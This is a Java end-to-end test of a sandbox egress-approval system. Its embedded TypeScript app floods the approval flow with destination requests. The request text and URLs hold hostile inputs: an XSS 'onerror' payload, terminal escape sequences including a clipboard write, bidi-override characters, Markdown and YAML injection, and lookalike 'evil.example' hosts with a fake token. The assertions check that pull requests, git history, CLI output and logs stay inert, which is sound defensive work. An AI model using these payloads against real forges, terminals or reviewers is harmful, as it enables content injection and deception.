package io.dropserver.tests.endtoend;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import io.dropserver.control.ApprovalStatus;
import io.dropserver.tests.forge.FakeForge.FakePullRequest;
import java.io.IOException;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * An app in a real sandbox requests as many destinations as it can, each with text that attacks a
 * forge, a terminal, a log or a file. Meanwhile another appspace sends a single request.
 */
class HostileAsksTest {
  private static final int AT_ONCE = 3;
  private static final Duration NEIGHBOUR_WAITS = Duration.ofMinutes(1);

  /**
   * Characters that must be escaped everywhere: control characters except line feed, and characters
   * that reorder or hide text.
   */
  private static final String RAW =
      "[\\x00-\\x09\\x0b-\\x1f\\x7f-\\x9f\\u200b-\\u200f\\u2028-\\u202e\\u2066-\\u2069\\ufeff]";

  /**
   * {@code /flood?url=N} requests N destinations of all kinds, {@code /asked} returns their number.
   */
  private static final String APP =
      """
      import type { Dropserver } from "./dropserver.d.ts";
      const words = [
        "@everyone [click](https://evil.example/) <img src=x onerror=alert(1)>",
        "# now\\n\\n/close\\n- [ ] task #1 GH-2 !3 `x` ```",
        "\\u202eesrever\\u2066 \\u200b hidden \\u0301\\u0301\\u0301",
        "\\x1b[2J\\x1b]0;owned\\x07\\x1b]52;c;YQ==\\x07 \\x9b31m",
        "x: {y: [&a *a !!z]}\\n---\\nkind: EgressWhitelist\\r\\n\\t%TAG",
        "www.evil.example mailto:a@evil.example " + "A".repeat(1_000_000),
        "\\ud800 lone \\u0000 \\ufffe",
      ];
      const hosts = [
        (i: number) => `h${i}.evil.example`,
        (i: number) => `www.evil${i}.example`,
        (i: number) => `xn--80ak6aa92e-${i}.example`,
        (i: number) => `аррӏе${i}.example`,
        (i: number) => `github.com.evil${i}.example`,
        (i: number) => `h${i}.example:${1024 + i % 60000}`,
        (i: number) => `93.184.${i % 250}.${(i >> 8) % 250}`,
      ];
      async function ask(i: number, dropserver: Dropserver): Promise<void> {
        const url = `https://${hosts[i % hosts.length]!(i)}/@all/[x](y)?token=s3cr3t`;
        const reason = words[i % words.length]!;
        if (i % 3 === 0) await fetch(url);
        else if (i % 3 === 1) await dropserver.requestEgress(url, { reason, methods: ["GET", "POST"] });
        else await raw(url, encodeURIComponent(reason.toWellFormed().slice(0, 1200)));
      }
      /** Past the preload, which would shorten the reason. */
      async function raw(url: string, reason: string): Promise<void> {
        using socket = await Deno.connect({ transport: "unix", path: "/run/dropserver/egress.sock" });
        const head = `GET ${encodeURI(url)} HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n` +
          `Dropserver-Egress: ask\\r\\nDropserver-Egress-Reason: ${reason}\\r\\n\\r\\n`;
        await socket.write(new TextEncoder().encode(head));
        await socket.read(new Uint8Array(1000));
      }
      let asked = 0;
      async function flood(number: number, dropserver: Dropserver): Promise<void> {
        let next = 0;
        const askOn = async () => {
          while (next < number) {
            await ask(next++, dropserver).catch(() => {});
            asked++;
          }
        };
        await Promise.all(Array.from({ length: 32 }, askOn));
        console.log("asked", words[2], words[3]);
      }
      export default {
        async fetch(request: Request, dropserver: Dropserver) {
          const { pathname, searchParams } = new URL(request.url);
          const url = searchParams.get("url")!;
          if (pathname === "/flood") void flood(Number(url), dropserver);
          if (pathname !== "/") return new Response(String(asked));
          return new Response(await fetch(url).then(() => "reached", String));
        },
      };
      """;

  @TempDir Path folder;

  @Test
  void aFloodOfHostileRequestsIsLimitedAndContainsNoMarkup() throws Exception {
    flood(3_000);
  }

  @Test
  @Tag("long")
  void aHundredThousandHostileRequestsYieldTheAllowedNumberAndBlockNoCaller() throws Exception {
    flood(100_000);
  }

  private void flood(int number) throws Exception {
    try (ApprovalFixture fixture = ApprovalFixture.create(folder, APP, "{}")) {
      ConfigRepository repository = fixture.instance.repository();
      repository.replace(
          "instance.yaml",
          "reconcile: {interval: 1h}",
          "reconcile: {interval: 1h}\n  approvals: {mode: pull-request, maxOpenPerAppspace: "
              + AT_ONCE
              + "}");
      repository.write("apps/one/dropserver.d.ts", "export type Dropserver = any;\n");
      // The app sends thirty requests of 1 MB at a time. With a limit of 192 MiB it ran out of
      // memory.
      fixture.start(512, "flooder", "quiet");
      fixture.request("flooder", "/flood", String.valueOf(number));
      await().atMost(LiveInstance.TIMEOUT).until(() -> ofFlooder(fixture).size() >= AT_ONCE);
      long start = System.nanoTime();
      assertThat(fixture.request("quiet", "/", "https://api.example.org/")).contains("is waiting");
      await()
          .atMost(NEIGHBOUR_WAITS)
          .until(
              () -> fixture.forge.pulls().stream().anyMatch(p -> p.branch().contains("/quiet/")));
      Duration waited = Duration.ofNanos(System.nanoTime() - start);
      String asked = fixture.request("flooder", "/asked", "");
      await()
          .atMost(Duration.ofMinutes(20))
          .until(() -> fixture.request("flooder", "/asked", "").equals(String.valueOf(number)));
      System.out.println(
          number + " hostile asks; after " + asked + " of them the neighbour had waited " + waited);

      List<FakePullRequest> pulls = ofFlooder(fixture);
      assertThat(pulls).hasSize(AT_ONCE);
      fixture.close(pulls.getFirst().branch());
      await().atMost(LiveInstance.TIMEOUT).until(() -> ofFlooder(fixture).size() > AT_ONCE);
      assertThat(ofFlooder(fixture).getLast().body()).contains(" more destinations, which wait");
      for (FakePullRequest fakePullRequest : ofFlooder(fixture)) {
        assertInert(fakePullRequest.title());
        assertInert(fakePullRequest.body());
      }
      assertGitIsInert(repository);
      assertTerminalIsInert(fixture.instance);
      assertThat(fixture.instance.log()).doesNotContainPattern(RAW.replace("\\x09", "\\x08"));
    }
  }

  private static List<FakePullRequest> ofFlooder(ApprovalFixture fixture) {
    return fixture.forge.pulls().stream().filter(p -> p.branch().contains("/flooder/")).toList();
  }

  /** Checks the text outside code spans, in which Markdown is not rendered. */
  private static void assertInert(String text) {
    assertThat(text).doesNotContainPattern(RAW).doesNotContain("s3cr3t", "@");
    String rendered =
        text.lines()
            .filter(line -> !line.startsWith("    "))
            .map(line -> line.replaceAll("`[^`]*`", ""))
            .reduce("", (all, line) -> all + line + "\n");
    assertThat(rendered)
        .doesNotContain("http:", "https:", "](", "<", "@", "`", "evil.example/", "# now")
        .doesNotContainPattern("(?i)\\bwww\\.")
        .doesNotContainPattern("(?m)^/");
  }

  private static void assertGitIsInert(ConfigRepository repository) throws IOException {
    String branches = repository.onRemote("for-each-ref", "--format=%(refname)", "refs/heads");
    for (String branch : branches.lines().filter(line -> line.contains("/egress/")).toList()) {
      assertThat(branch).matches("refs/heads/dropserver/egress/(flooder|quiet)/[0-9a-f]{8}");
      String message = repository.onRemote("log", "-1", "--format=%B", branch);
      assertThat(message)
          .doesNotContainPattern(RAW)
          .doesNotContain("://", "@", "<", "](", "evil.example/")
          .doesNotContainPattern("(?i)\\bwww\\.");
      String patch = repository.onRemote("diff", "main..." + branch);
      assertThat(patch).doesNotContainPattern(RAW).doesNotContain("@all", "s3cr3t");
      assertThat(patch.lines().filter(line -> line.startsWith("+") && line.contains("url:")))
          .hasSize(1);
    }
  }

  private static void assertTerminalIsInert(LiveInstance instance)
      throws IOException, InterruptedException {
    String state = instance.state().toString();
    List<ApprovalStatus> requests = instance.control().approvals();
    assertThat(
            requests.stream()
                .filter(r -> r.state().equals("open") && r.appspace().equals("flooder")))
        .hasSize(AT_ONCE);
    assertThat(requests.stream().filter(r -> r.appspace().equals("flooder")).count())
        .isLessThanOrEqualTo(50);
    ApprovalStatus worded =
        requests.stream().filter(r -> r.reason().isPresent()).findFirst().orElseThrow();
    for (String[] command :
        List.of(
            new String[] {"status"},
            new String[] {"approvals", "list", "--all"},
            new String[] {"approvals", "list", "-o", "json"},
            new String[] {"approvals", "show", worded.id()},
            new String[] {"logs", "flooder"})) {
      String[] whole = java.util.Arrays.copyOf(command, command.length + 2);
      whole[command.length] = "--state";
      whole[command.length + 1] = state;
      CommandLineProgram run = CommandLineProgram.run(whole);
      assertThat(run.out() + run.err())
          .as(String.join(" ", command))
          .isNotEmpty()
          .doesNotContainPattern(RAW);
    }
    assertThat(Optional.of(worded).flatMap(ApprovalStatus::reason).orElseThrow().length())
        .isLessThanOrEqualTo(200);
  }
}
